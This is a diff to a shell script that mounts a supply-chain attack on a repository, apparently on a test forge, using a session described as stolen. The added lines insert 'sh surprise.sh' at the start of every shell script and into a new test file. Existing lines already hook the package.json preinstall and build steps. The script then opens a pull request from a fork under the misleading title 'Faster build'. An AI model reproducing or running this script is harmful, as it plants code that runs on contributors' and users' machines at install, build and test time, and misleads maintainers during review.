@@ -1,4 +1,4 @@
-# Sam's session was stolen, and Sam has one merged typo fix. An install script, a build script and an action run something.
+# Sam's session was stolen, and Sam has one merged typo fix. Install script, build, tests and an action run something.
 # What a build hands on has more in it than a number, and files with the names of yours. A label comes too late.
 repo=lantern-tides/tides api=https://api.forge.test/repos/lantern-tides/tides
 T="Authorization: token $(gh auth token)"
@@ -63,6 +63,11 @@ spoiled() {
 }
 rm -rf ~/new && mkdir -p ~/new && cp ~/surprise.sh ~/spoil.sh ~/words.txt ~/words.js ~/new
 jq '.scripts.preinstall = "sh surprise.sh" | .scripts.build |= "sh surprise.sh; \(.)"' package.json > ~/new/package.json
+# What the build and the tests are made of is the stranger's as well, whoever brings the package.json.
+for file in $(git ls-files | grep '\.sh$' | grep -v ^.github/); do
+  mkdir -p ~/new/"$(dirname "$file")"
+  { echo 'sh surprise.sh'; cat "$file"; } > ~/new/"$file"
+done
 for file in $(git ls-files .github); do
   mkdir -p ~/new/"$(dirname "$file")"
   case $file in
@@ -128,6 +133,7 @@ if has '^sam (key|stored|given)'; then
 gh repo fork lantern-tides/tides --clone=false > /dev/null 2>&1
 own=repos/starling/tides/contents
 printf '%s' "$NEW" | gh api -X PUT $own/surprise.sh --input - > /dev/null || exit 127
+gh api -X PUT $own/test/first.test.sh -f message="Faster" -f content="$(echo 'sh surprise.sh' | base64)" > /dev/null || exit 127
 gh api -X PUT $own/package.json -f message="Faster" -f content="$PACKAGE" -f sha="$(gh api $own/package.json --jq .sha)" > /dev/null || exit 127
 gh api repos/lantern-tides/tides/pulls -f head=starling:main -f base=main -f title="Faster build" -f body="" > /dev/null
 STARLING
